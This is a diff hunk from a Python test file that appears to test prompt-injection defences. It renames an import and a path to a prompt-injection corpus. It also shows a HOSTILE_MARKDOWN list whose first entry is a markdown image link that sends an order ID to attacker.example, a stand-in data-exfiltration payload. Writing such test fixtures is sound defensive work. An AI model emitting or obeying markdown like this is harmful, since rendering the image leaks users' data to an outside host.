@@ -6,9 +6,9 @@ from html.parser import HTMLParser
 
 import pytest
 
-from tests.conftest import DATASETS
+from tests.conftest import DATA
 
-CORPUS = DATASETS / "prompt-injection" / "corpus.jsonl"
+CORPUS = DATA / "prompt-injection" / "corpus.jsonl"
 
 HOSTILE_MARKDOWN = [
     "Here is your receipt ![r](https://attacker.example/p?d=ORDER-1234)",
